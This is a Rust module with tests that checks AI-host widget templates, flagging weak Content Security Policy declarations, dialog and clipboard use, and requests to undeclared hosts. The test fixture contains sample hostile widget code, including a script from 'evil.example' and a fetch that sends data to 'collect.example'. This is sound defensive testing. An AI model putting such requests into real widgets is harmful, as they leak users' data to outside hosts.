//! Widget resources: their declared Content Security Policy and their code (EG-3).
//!
//! A widget is an HTML template that the assistant's host renders in a sandboxed iframe: an
//! Apps SDK template (`text/html+skybridge`), an MCP Apps view (`text/html;profile=mcp-app`), or
//! any `ui://` resource. The host builds the iframe's CSP from what the resource declares:
//! - Apps SDK: `_meta["openai/widgetCSP"]` with `connect_domains`, `resource_domains`,
//!   `frame_domains` (and `redirect_domains`);
//! - MCP Apps: `_meta.ui.csp` with `connectDomains`, `resourceDomains`, `frameDomains` (and
//!   `baseUriDomains`, `redirectDomains`).
//!
//! [`check`] reports, as `widget.*` findings in a [`WidgetReport`]:
//! - `widget.csp_missing`: no declaration at all;
//! - `widget.csp_invalid`: a declaration that is not an object of lists of strings;
//! - `widget.csp_wildcard`: `*`, a bare scheme (`https:`) or a wildcard over a top-level domain
//!   (`*.com`), which allow everything or nearly;
//! - `widget.csp_insecure`: an `http:` or `ws:` origin, readable and changeable on the way;
//! - `widget.privileged_api`: `alert(`, `prompt(`, `confirm(`, `navigator.clipboard`,
//!   `document.execCommand('copy'|'cut')` in the code: dialogs that impersonate the host and
//!   clipboard access that plants or reads data;
//! - `widget.undeclared_host`: a `fetch`, `XMLHttpRequest`, `WebSocket`, `EventSource`,
//!   `sendBeacon`, `import`, `<script src>`, `<img src>`, `<iframe src>`, `<link href>` or CSS
//!   `url()` whose absolute URL's host is not among the declared domains of its kind (connect,
//!   resource or frame).
//!
//! Categories (a choice, recorded in each finding): the `csp_*` kinds are `internal`: they are
//! weaknesses of the connector's deployment, not attacks, and must not trip the monitor's
//! injection-attempt alert on every read. `privileged_api` and `undeclared_host` are
//! `injection`: code that reaches outside its declared domains or drives dialogs and the
//! clipboard is how a hostile widget exfiltrates or social-engineers.
//!
//! The check is static: URLs built at run time (`fetch(base + path)`) cannot be seen here; the
//! host's CSP still stops them, which is why the declaration itself is checked first.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

/// The Apps SDK widget MIME type.
pub const SKYBRIDGE_MIME: &str = "text/html+skybridge";
/// The MCP Apps view MIME type.
pub const MCP_APP_MIME: &str = "text/html;profile=mcp-app";

/// Every kind [`check`] can report, with its category.
pub const KINDS: &[(&str, &str)] = &[
    (CSP_MISSING, "internal"),
    (CSP_INVALID, "internal"),
    (CSP_WILDCARD, "internal"),
    (CSP_INSECURE, "internal"),
    (PRIVILEGED_API, "injection"),
    (UNDECLARED_HOST, "injection"),
];

const CSP_MISSING: &str = "widget.csp_missing";
const CSP_INVALID: &str = "widget.csp_invalid";
const CSP_WILDCARD: &str = "widget.csp_wildcard";
const CSP_INSECURE: &str = "widget.csp_insecure";
const PRIVILEGED_API: &str = "widget.privileged_api";
const UNDECLARED_HOST: &str = "widget.undeclared_host";

/// Whether a resource is a widget template: by MIME type (parameters and spacing ignored, case
/// insensitive) or by a `ui://` URI.
pub fn is_widget(uri: &str, mime: Option<&str>) -> bool {
    if uri
        .get(..5)
        .is_some_and(|s| s.eq_ignore_ascii_case("ui://"))
    {
        return true;
    }
    let Some(m) = mime else { return false };
    let m: String = m
        .chars()
        .filter(|c| !c.is_ascii_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    let base = m.split(';').next().unwrap_or("");
    base == SKYBRIDGE_MIME
        || (base == "text/html" && m.split(';').skip(1).any(|p| p == "profile=mcp-app"))
}

/// One finding of [`check`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WidgetFinding {
    /// `widget.*` kind (see [`KINDS`]).
    pub kind: &'static str,
    /// `internal` or `injection` (see the module documentation).
    pub category: &'static str,
    /// What was found, for the reviewer: the host, the API, or the CSP entry. Never content of
    /// the page beyond that.
    pub detail: String,
}

/// Which list of the declaration a URL must be in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DomainClass {
    /// `fetch`, XHR, WebSockets, EventSource, beacons (`connect-src`).
    Connect,
    /// Scripts, images, styles, fonts, media (`script-src`, `img-src`...).
    Resource,
    /// Nested frames (`frame-src`).
    Frame,
}

/// The domains a widget declares.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DeclaredCsp {
    /// Where it found them: `openai/widgetCSP` or `ui.csp`.
    pub source: &'static str,
    /// Connect origins.
    pub connect: Vec<String>,
    /// Resource origins.
    pub resource: Vec<String>,
    /// Frame origins.
    pub frame: Vec<String>,
}

/// What [`check`] found.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WidgetReport {
    /// The declaration, when there is one.
    pub csp: Option<DeclaredCsp>,
    /// The findings, at most one per kind and detail.
    pub findings: Vec<WidgetFinding>,
}

impl WidgetReport {
    fn push(&mut self, kind: &'static str, detail: impl Into<String>) {
        let detail: String = detail.into().chars().take(200).collect();
        if self
            .findings
            .iter()
            .any(|f| f.kind == kind && f.detail == detail)
        {
            return;
        }
        let category = KINDS
            .iter()
            .find(|(k, _)| *k == kind)
            .map_or("internal", |(_, c)| c);
        self.findings.push(WidgetFinding {
            kind,
            category,
            detail,
        });
    }
}

/// Checks one widget: `html` is its text, `meta` the resource contents' `_meta` (where both
/// conventions put the CSP), `fallback_meta` the result's `_meta` (looked at when the contents
/// carry none).
pub fn check(html: &str, meta: Option<&Value>, fallback_meta: Option<&Value>) -> WidgetReport {
    let mut report = WidgetReport::default();
    let declared = find_csp(meta, &mut report).or_else(|| {
        if report.findings.is_empty() {
            find_csp(fallback_meta, &mut report)
        } else {
            None
        }
    });
    if declared.is_none() && report.findings.is_empty() {
        report.push(
            CSP_MISSING,
            "no _meta[\"openai/widgetCSP\"] or _meta.ui.csp",
        );
    }
    if let Some(csp) = &declared {
        for entry in csp.connect.iter().chain(&csp.resource).chain(&csp.frame) {
            check_entry(entry, &mut report);
        }
    }
    scan_code(html, declared.as_ref(), &mut report);
    report.csp = declared;
    report
}

/// The declaration in one `_meta`, Apps SDK first.
fn find_csp(meta: Option<&Value>, report: &mut WidgetReport) -> Option<DeclaredCsp> {
    let meta = meta?.as_object()?;
    let (source, csp, names) = if let Some(c) = meta.get("openai/widgetCSP") {
        (
            "openai/widgetCSP",
            c,
            ["connect_domains", "resource_domains", "frame_domains"],
        )
    } else if let Some(c) = meta.get("ui").and_then(|u| u.get("csp")) {
        (
            "ui.csp",
            c,
            ["connectDomains", "resourceDomains", "frameDomains"],
        )
    } else {
        return None;
    };
    let Some(obj) = csp.as_object() else {
        report.push(CSP_INVALID, format!("{source} is not an object"));
        return None;
    };
    let mut lists: [Vec<String>; 3] = Default::default();
    for (i, name) in names.iter().enumerate() {
        match obj.get(*name) {
            None | Some(Value::Null) => {}
            Some(Value::Array(a)) => {
                for e in a {
                    match e.as_str() {
                        Some(s) => lists[i].push(s.trim().to_string()),
                        None => {
                            report.push(CSP_INVALID, format!("{source}.{name} holds a non-string"))
                        }
                    }
                }
            }
            Some(_) => report.push(CSP_INVALID, format!("{source}.{name} is not a list")),
        }
    }
    // The other lists of either convention are checked for wildcards and http: too.
    for (k, v) in obj {
        if names.contains(&k.as_str()) {
            continue;
        }
        if let Some(a) = v.as_array() {
            for e in a.iter().filter_map(Value::as_str) {
                check_entry(e.trim(), report);
            }
        }
    }
    let [connect, resource, frame] = lists;
    Some(DeclaredCsp {
        source,
        connect,
        resource,
        frame,
    })
}

/// An entry's scheme (lowercase, when written) and host pattern (lowercase; `*.x` for a
/// wildcard), or None when it names no host.
fn parse_entry(entry: &str) -> (Option<String>, Option<String>) {
    let e = entry.trim().trim_matches('\'').to_ascii_lowercase();
    let (scheme, rest) = match e.split_once("://") {
        Some((s, r)) => (Some(s.to_string()), r.to_string()),
        None => match e.strip_suffix(':') {
            // A bare scheme source such as `https:`.
            Some(s) if !s.contains(['.', '/']) => (Some(s.to_string()), String::new()),
            _ => (None, e.clone()),
        },
    };
    let host = rest
        .split(['/', '?', '#'])
        .next()
        .unwrap_or("")
        .rsplit('@')
        .next()
        .unwrap_or("");
    let host = if host.starts_with('[') {
        host.split(']')
            .next()
            .map(|h| format!("{h}]"))
            .unwrap_or_default()
    } else {
        host.split(':').next().unwrap_or("").to_string()
    };
    let host = host.trim_end_matches('.').to_string();
    (scheme, (!host.is_empty()).then_some(host))
}

fn check_entry(entry: &str, report: &mut WidgetReport) {
    let (scheme, host) = parse_entry(entry);
    match host.as_deref() {
        None | Some("*") => report.push(CSP_WILDCARD, entry),
        Some(h) if h.starts_with("*.") && !h[2..].contains('.') => report.push(CSP_WILDCARD, entry),
        Some(h) if h.contains('*') && !h.starts_with("*.") => report.push(CSP_WILDCARD, entry),
        _ => {}
    }
    if matches!(scheme.as_deref(), Some("http" | "ws")) {
        report.push(CSP_INSECURE, entry);
    }
}

fn declared_allows(list: &[String], host: &str) -> bool {
    list.iter().any(|e| match parse_entry(e).1 {
        Some(p) if p == "*" => true,
        Some(p) => match p.strip_prefix("*.") {
            Some(suffix) => {
                host.len() > suffix.len()
                    && host.ends_with(suffix)
                    && host.as_bytes()[host.len() - suffix.len() - 1] == b'.'
            }
            None => p == host,
        },
        None => false,
    })
}

struct Patterns {
    connect: Vec<Regex>,
    resource: Vec<Regex>,
    frame: Regex,
    dialog: Regex,
    clipboard: Regex,
    exec_copy: Regex,
}

static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
    // Built-in patterns, checked by the tests: a failure here is a bug, not an input error.
    let r = |p: &str| Regex::new(p).expect("built-in widget pattern compiles");
    let lit = r#"\s*(?:['"`])([^'"`\s]*)"#;
    Patterns {
        connect: vec![
            r(&format!(r"\bfetch\s*\({lit}")),
            r(&format!(r"\bsendBeacon\s*\({lit}")),
            r(&format!(r"\bnew\s+(?:WebSocket|EventSource)\s*\({lit}")),
            r(&format!(r#"\.open\s*\(\s*['"`][A-Za-z]+['"`]\s*,{lit}"#)),
        ],
        resource: vec![
            r(
                r#"(?i)<(?:script|img|link|source|video|audio|embed|object)\b[^>]*?\s(?:src|href|data|poster)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))"#,
            ),
            r(&format!(r"\bimport\s*\({lit}")),
            r(r#"\bimport\b[^;'"`]*?\bfrom\s*['"`]([^'"`\s]*)"#),
            r(r#"(?i)\burl\(\s*['"]?([^'")\s]+)"#),
        ],
        frame: r(r#"(?i)<iframe\b[^>]*?\ssrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))"#),
        dialog: r(r"\b(alert|prompt|confirm)\s*\("),
        clipboard: r(r"\bnavigator\s*\.\s*clipboard\b"),
        exec_copy: r(r#"\bexecCommand\s*\(\s*['"`](copy|cut)['"`]"#),
    }
});

/// The host of an absolute http(s)/ws(s) or protocol-relative URL, lowercase.
fn absolute_host(url: &str) -> Option<String> {
    let u = url.trim();
    let parsed = if u.starts_with("//") {
        url::Url::parse(&format!("https:{u}")).ok()?
    } else {
        url::Url::parse(u).ok()?
    };
    if !matches!(parsed.scheme(), "http" | "https" | "ws" | "wss") {
        return None;
    }
    parsed
        .host_str()
        .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
}

fn first_group(c: &regex::Captures<'_>) -> Option<String> {
    (1..c.len()).find_map(|i| c.get(i).map(|m| m.as_str().to_string()))
}

fn scan_code(html: &str, csp: Option<&DeclaredCsp>, report: &mut WidgetReport) {
    let p = &*PATTERNS;
    let empty = Vec::new();
    let urls = |class: DomainClass, re: &Regex, report: &mut WidgetReport| {
        for c in re.captures_iter(html) {
            let Some(url) = first_group(&c) else { continue };
            let Some(host) = absolute_host(&url) else {
                continue;
            };
            let list = match (csp, class) {
                (None, _) => &empty,
                (Some(c), DomainClass::Connect) => &c.connect,
                (Some(c), DomainClass::Resource) => &c.resource,
                (Some(c), DomainClass::Frame) => &c.frame,
            };
            if !declared_allows(list, &host) {
                report.push(UNDECLARED_HOST, host);
            }
        }
    };
    for re in &p.connect {
        urls(DomainClass::Connect, re, report);
    }
    for re in &p.resource {
        urls(DomainClass::Resource, re, report);
    }
    urls(DomainClass::Frame, &p.frame, report);

    for c in p.dialog.captures_iter(html) {
        let m = c.get(1).expect("the dialog pattern has a group");
        if is_global_call(html, m.start()) {
            report.push(PRIVILEGED_API, m.as_str());
        }
    }
    if p.clipboard.is_match(html) {
        report.push(PRIVILEGED_API, "navigator.clipboard");
    }
    for c in p.exec_copy.captures_iter(html) {
        let what = c.get(1).map_or("copy", |m| m.as_str());
        report.push(PRIVILEGED_API, format!("document.execCommand('{what}')"));
    }
}

/// Whether the name at `at` is called as the global function: bare, or on `window`, `self`,
/// `globalThis`, `top` or `parent`; not a method of another object (`dialog.confirm(`) and not
/// a definition (`function confirm(`).
fn is_global_call(src: &str, at: usize) -> bool {
    let before = src[..at].trim_end();
    if let Some(obj) = before.strip_suffix('.') {
        let obj = obj.trim_end();
        let name_start = obj
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
            .map_or(0, |p| p + 1);
        return matches!(
            &obj[name_start..],
            "window" | "self" | "globalThis" | "top" | "parent"
        );
    }
    if before.ends_with('$') || before.ends_with('_') {
        return false;
    }
    let word_start = before
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
        .map_or(0, |p| p + 1);
    !matches!(&before[word_start..], "function" | "async")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn kinds(r: &WidgetReport) -> Vec<(&str, &str)> {
        r.findings
            .iter()
            .map(|f| (f.kind, f.detail.as_str()))
            .collect()
    }

    #[test]
    fn widget_types_are_recognised() {
        assert!(is_widget("ui://widget/board.html", None));
        assert!(is_widget("UI://x", None));
        assert!(is_widget("https://x/a.html", Some("text/html+skybridge")));
        assert!(is_widget("file:///a", Some("text/html; profile=mcp-app")));
        assert!(is_widget(
            "file:///a",
            Some("Text/HTML;charset=utf-8;profile=mcp-app")
        ));
        assert!(!is_widget("file:///a", Some("text/html")));
        assert!(!is_widget(
            "crm://schema/customer",
            Some("application/json")
        ));
    }

    #[test]
    fn missing_csp_is_a_finding() {
        let r = check("<div>hi</div>", Some(&json!({})), None);
        assert_eq!(
            kinds(&r),
            vec![(
                CSP_MISSING,
                "no _meta[\"openai/widgetCSP\"] or _meta.ui.csp"
            )]
        );
        assert_eq!(r.findings[0].category, "internal");
        // The result's _meta is the fallback.
        let meta = json!({"ui": {"csp": {"connectDomains": []}}});
        let r = check("<div>hi</div>", None, Some(&meta));
        assert!(r.findings.is_empty(), "{r:?}");
        assert_eq!(r.csp.unwrap().source, "ui.csp");
    }

    #[test]
    fn wildcards_insecure_and_invalid_declarations() {
        let meta = json!({"openai/widgetCSP": {
            "connect_domains": ["*", "http://api.example.com", "https://*.example.com"],
            "resource_domains": ["https:", "https://*.com"],
            "redirect_domains": ["ws://r.example.com"],
        }});
        let r = check("", Some(&meta), None);
        let k = kinds(&r);
        assert!(k.contains(&(CSP_WILDCARD, "*")), "{k:?}");
        assert!(
            k.contains(&(CSP_INSECURE, "http://api.example.com")),
            "{k:?}"
        );
        assert!(k.contains(&(CSP_WILDCARD, "https:")), "{k:?}");
        assert!(k.contains(&(CSP_WILDCARD, "https://*.com")), "{k:?}");
        assert!(k.contains(&(CSP_INSECURE, "ws://r.example.com")), "{k:?}");
        assert!(
            !k.iter().any(|(_, d)| *d == "https://*.example.com"),
            "{k:?}"
        );
        let r = check("", Some(&json!({"ui": {"csp": "default-src *"}})), None);
        assert_eq!(kinds(&r), vec![(CSP_INVALID, "ui.csp is not an object")]);
        let r = check(
            "",
            Some(&json!({"ui": {"csp": {"connectDomains": "x"}}})),
            None,
        );
        assert_eq!(
            kinds(&r),
            vec![(CSP_INVALID, "ui.csp.connectDomains is not a list")]
        );
    }

    #[test]
    fn privileged_apis_are_found_but_not_lookalikes() {
        let meta = json!({"ui": {"csp": {}}});
        let code = r#"<script>
            alert("hi"); window.confirm ('sure?'); navigator.clipboard.writeText(x);
            document.execCommand("copy");
            dialog.confirm(1); function prompt(x) {} myalert(2); $alert(3);
        </script>"#;
        let r = check(code, Some(&meta), None);
        let k = kinds(&r);
        assert_eq!(
            k,
            vec![
                (PRIVILEGED_API, "alert"),
                (PRIVILEGED_API, "confirm"),
                (PRIVILEGED_API, "navigator.clipboard"),
                (PRIVILEGED_API, "document.execCommand('copy')"),
            ]
        );
        assert!(r.findings.iter().all(|f| f.category == "injection"));
    }

    #[test]
    fn fetches_outside_the_declared_domains_are_found() {
        let meta = json!({"openai/widgetCSP": {
            "connect_domains": ["https://api.example.com"],
            "resource_domains": ["https://*.cdn.example"],
        }});
        let code = r#"<script src="https://js.cdn.example/app.js"></script>
            <script src='https://evil.example/x.js'></script>
            <img src=https://track.example/p.gif>
            <iframe src="https://frame.example/"></iframe>
            <script>
              fetch("https://api.example.com/v1/items");
              fetch(`https://collect.example/?d=${data}`);
              const ws = new WebSocket("wss://socket.example/live");
              const es = new EventSource('https://api.example.com/events');
              xhr.open("POST", "https://xhr.example/upload");
              navigator.sendBeacon("https://beacon.example/b", body);
              fetch("/relative/ok"); fetch(url);
              import("https://api.example.com/mod.js");
            </script>
            <style>body { background: url("https://img.example/bg.png") }</style>"#;
        let r = check(code, Some(&meta), None);
        let hosts: Vec<&str> = r
            .findings
            .iter()
            .filter(|f| f.kind == UNDECLARED_HOST)
            .map(|f| f.detail.as_str())
            .collect();
        for h in [
            "evil.example",
            "track.example",
            "frame.example",
            "collect.example",
            "socket.example",
            "xhr.example",
            "beacon.example",
            "img.example",
            // Declared for connect, not for resources: a script import is a resource.
            "api.example.com",
        ] {
            assert!(hosts.contains(&h), "{h} missing from {hosts:?}");
        }
        assert!(!hosts.contains(&"js.cdn.example"), "{hosts:?}");
        assert_eq!(hosts.len(), 9, "{hosts:?}");
    }
}
